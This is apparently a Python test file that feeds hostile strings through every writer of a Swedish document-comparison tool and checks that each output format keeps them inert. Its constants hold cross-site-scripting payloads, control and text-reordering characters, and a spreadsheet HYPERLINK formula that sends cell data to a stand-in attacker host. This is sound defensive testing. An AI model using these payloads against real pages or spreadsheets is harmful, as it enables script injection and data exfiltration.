"""A hostile document through every writer: scripts, formulas, mark-up, signs that reorder text or are illegal in XML.

The texts are compared with plain words in the places of the hostile ones, which are put in after that, past all readers
and checks: what a writer gets is as bad as it can be.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Callable
from enum import StrEnum
from functools import cache
from typing import Any, TypeVar, cast

import pytest
from lxml import etree
from lxml import html as lxml_html

import agreement_diff as ad
from agreement_diff.cli.options import ChangelogFormat, HistoryFormat, MapFormat, ReadFormat, TraceFormat
from agreement_diff.lineage import lineage
from agreement_diff.model.consultation import Comment, Consultation, Passage, Respondent, Target, Unread, Verdict
from agreement_diff.model.document import Bundle, Furniture, ReadingReport
from agreement_diff.model.lineage import Version
from agreement_diff.model.value import Value
from agreement_diff.present.akn.writer import akn_comparison
from agreement_diff.present.map.table import map_table
from agreement_diff.present.redline import redline_documents
from agreement_diff.present.report.page import report
from tests.report_texts import compared
from tests.small_texts import document, paired
from tests.word_validity import faults

SCRIPT = (
    '<script>alert(1)</script></title></style><img src=x onerror=alert(2)>"onmouseover="alert(3) [y](javascript:alert(4)) '
    "{{ 7*7 }} {% x %} ]]> <!-- &evil; **b** `c` | \u202etxen\u2066 \x1b[2J \x00 \x07 \ud800 \ufffe \U000f0000 --> \N{ZERO WIDTH SPACE}"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
WORDS = {"Elakting": SCRIPT, "Formelman": FORMULA}
"""Plain words, and the hostile ones that take their place."""
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
"""What XML 1.0, UTF-8 or a terminal does not bear."""
UNSEEN = re.compile("[\u200b\u202a-\u202e\u2066-\u2069]")
V = TypeVar("V")


def hostile(value: V) -> V:
    """The value with hostile words in the places of the plain ones, past all validation."""
    if isinstance(value, Value):
        fields = {name: hostile(getattr(value, name)) for name in type(value).model_fields}
        return cast(V, type(value).model_construct(**fields))
    if isinstance(value, tuple):
        return tuple(hostile(inner) for inner in value)  # type: ignore[return-value]
    if isinstance(value, str):
        for plain, evil in WORDS.items():
            value = value.replace(plain, evil)  # type: ignore[assignment]
    return value


TEXT = (
    "§ 1 Formelman\nElakting ska {}.\n1. Formelman {}\n2. bostad Elakting\n# Elakting rubrik\nFormelman och Elakting {}.\n"
    "# Formelman\nElakting.\n"
    "§ 3 Kvar\nParterna ska samverka om bostäder {} varje år.\n{}"
)


@cache
def comparison() -> ad.Comparison:
    """Two hostile versions."""
    old, new = (
        document(f"{name} Elakting", TEXT.format(*words), title="Formelman Elakting").model_copy(
            update={
                "issuer": "Elakting", "registry_number": "Formelman", "addressee": "Elakting",
                "furniture": (Furniture(kind="letterhead", text="Elakting"),),
            }
        )
        for name, *words in (
            ("gammal", "bo", "ett", "två", "och skolor", "§ 4 Elakting\nFormelman bort."),
            ("ny", "gå", "tre", "fyra", "och vägar", "§ 5 Nytt\nElakting kom till."),
        )
    )  # fmt: skip
    return hostile(compared(old, new, paired(old, new)))


@cache
def consultation() -> Consultation:
    """Comments whose every text is hostile."""
    evidence = Passage(label="Formelman", eid="sec_1", quote="Elakting")
    verdict = Verdict(disposition="partly", reason="Formelman Elakting", confidence=0.5, evidence=(evidence,))
    target = Target(label="Formelman", eid="sec_1__para_1", version="final", how="stated", score=1.0)
    comments = tuple(
        Comment(
            id=f"Elakting/{n}", document="svar", respondent=who, quote=quote, type="change_proposal", targets=(target,) * (n % 2),
            draft_wording="Formelman", proposed_wording="Elakting", disposition="partly", reason="Elakting", confidence=0.5,
            evidence=(evidence,), machine=verdict, human=verdict if n == 2 else None,
        )
        for n, (who, quote) in enumerate((("Formelman", "Elakting"), ("Elakting", "Formelman"), ("Formelman", "Elakting\nX")))
    )  # fmt: skip
    made = tuple(
        Respondent(
            name=who,
            stance="synpunkter",
            documents=("svar",),
            comments=tuple(c.id for c in comments if c.respondent == who),
        )
        for who in ("Formelman", "Elakting")
    )
    pair = comparison()
    answer = document("svar", "# Elakting\nFormelman", title="Elakting").model_copy(update={"kind": "response"})
    unread = Unread(name="Formelman", message_sv="Elakting", message_en="Elakting")
    plain = Consultation.model_construct(
        **Consultation(
            final=document("x", "# x\nx"), comments=comments, respondents=made, responses=(answer,), unread=(unread,)
        ).__dict__
    )
    return hostile(plain).model_copy(update={"final": pair.new, "draft": pair.old})


@cache
def history() -> ad.Lineage:
    """Two versions of hostile names."""
    pair = comparison()
    versions = [
        Version.model_construct(name=hostile(name), date=None, document=d)
        for name, d in (("Formelman", pair.old), ("Elakting", pair.new))
    ]
    return lineage(versions, [pair.alignment])


def bundle() -> Bundle:
    """A file that holds a hostile document."""
    new = comparison().new
    return Bundle.model_construct(documents=(new,), report=ReadingReport(format="txt"), source=new.source)


def html_is_safe(data: bytes) -> None:
    page = data.decode()
    assert not FORBIDDEN.search(page) and not UNSEEN.search(page)
    root = lxml_html.fromstring(page)
    for node in root.iter(etree.Element):
        assert node.tag != "script" or "alert" not in (node.text or "")
        assert not [name for name in node.attrib if str(name).startswith("on")], node.attrib
        assert not [
            v for v in node.attrib.values() if str(v).strip().lower().startswith(("javascript:", "http://evil"))
        ]
        assert node.tag not in ("img", "iframe", "object", "embed", "base")
    assert "alert(1)" in root.text_content() and "49" not in re.findall(r"\b49\b", root.text_content())


def xml_is_safe(data: bytes) -> None:
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False))
    assert not root.getroottree().docinfo.doctype
    for node in root.iter(etree.Element):
        assert str(node.tag).rpartition("}")[2] not in ("script", "foreignObject", "image", "img", "use")
        assert not [name for name in node.attrib if str(name).startswith("on")]
    assert "alert(1)" in etree.tostring(root, encoding="unicode", method="text")


def svg_is_safe(data: bytes) -> None:
    xml_is_safe(data)
    assert not UNSEEN.search(data.decode())


def office_is_safe(data: bytes) -> None:
    """All parts are XML; no cell is a formula, no field and no link stands in the text."""
    said = ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(archive.read(name))
                said += "".join(root.itertext())
                assert not list(root.iter("{*}f")) or "theme" in name
                assert not list(root.iter("{*}instrText", "{*}fldSimple")) or "HYPERLINK" not in said
                assert not [r for r in root.iter("{*}Relationship") if "evil" in (r.get("Target") or "")]
    assert "alert(1)" in said and "HYPERLINK" in said


def word_is_safe(data: bytes) -> None:
    office_is_safe(data)
    assert [f for f in faults(data) if "bookmark" not in f] == []


def csv_is_safe(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not FORBIDDEN.search(text)
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@|%\t\r\n]", cell)]
    assert any("HYPERLINK" in cell for cell in cells)


def json_is_safe(data: bytes) -> None:
    value = json.loads(data.decode())
    assert "alert(1)" in json.dumps(value)


def toml_is_safe(data: bytes) -> None:
    assert "alert(1)" in json.dumps(tomllib.loads(data.decode())) or b"alert(1)" in data


def text_is_safe(data: bytes) -> None:
    text = data.decode()
    assert not FORBIDDEN.search(text) and not UNSEEN.search(text)
    assert "alert(1)" in text or "HYPERLINK" in text


def markdown_is_safe(data: bytes) -> None:
    text_is_safe(data)
    text = data.decode()
    assert not re.search(r"(?<!\\)<(?:script|img|!--)|(?<!\\)\]\(javascript|(?<!\\)\*\*b(?<!\\)\*\*", text)


def png_is_safe(data: bytes) -> None:
    assert data.startswith(b"\x89PNG\r\n\x1a\n")


def parquet_is_safe(data: bytes) -> None:
    assert data[:4] == data[-4:] == b"PAR1"


CHECKS: dict[str, Callable[[bytes], None]] = {
    "html": html_is_safe, "report": html_is_safe, "notebook": html_is_safe, "akn": xml_is_safe, "svg": svg_is_safe,
    "docx": word_is_safe, "xlsx": office_is_safe, "csv": csv_is_safe, "json": json_is_safe, "jsonld": json_is_safe,
    "table": text_is_safe, "text": text_is_safe, "md": markdown_is_safe, "png": png_is_safe, "toml": toml_is_safe, "parquet": parquet_is_safe,
}  # fmt: skip
MAPS = frozenset({"table", "csv", "json", "md", "html"})


def _map(format: str) -> bytes:
    if format not in MAPS:
        return _rendered(comparison)(format)
    return map_table(comparison(), "paragraph", cast(Any, format), "sv").encode()


def _rendered(result: Callable[[], Any]) -> Callable[[str], bytes]:
    return lambda format: ad.render(result(), format, lang="sv")


FORMATS: dict[str, tuple[type[StrEnum], Callable[[str], bytes]]] = {
    "read": (ReadFormat, _rendered(bundle)),
    "map": (MapFormat, _map),
    "changelog": (ChangelogFormat, _rendered(comparison)),
    "trace": (TraceFormat, _rendered(consultation)),
    "history": (HistoryFormat, _rendered(history)),
}
"""The formats of each command, and what writes them."""


@pytest.mark.parametrize(
    ("command", "format"), [(c, str(f.value)) for c, (formats, _) in FORMATS.items() for f in formats]
)
def test_a_hostile_text_is_only_text_in_every_format_of_every_command(command: str, format: str) -> None:
    CHECKS[format](FORMATS[command][1](format))


def test_a_hostile_text_is_only_text_in_the_report() -> None:
    html_is_safe(report(comparison(), consultation(), "sv").encode())


@pytest.mark.parametrize("result", [comparison, consultation, history, bundle])
def test_a_hostile_text_is_only_text_in_a_notebook(result: Callable[[], Any]) -> None:
    html_is_safe(result()._repr_html_().encode())


def test_a_hostile_text_is_only_text_in_a_redline_and_its_comments() -> None:
    pair = comparison()
    word_is_safe(redline_documents(pair, author=SCRIPT, date="2024-05-01", consultation=consultation()))


def test_hostile_changes_are_only_text_in_akoma_ntoso() -> None:
    xml_is_safe(akn_comparison(comparison()))
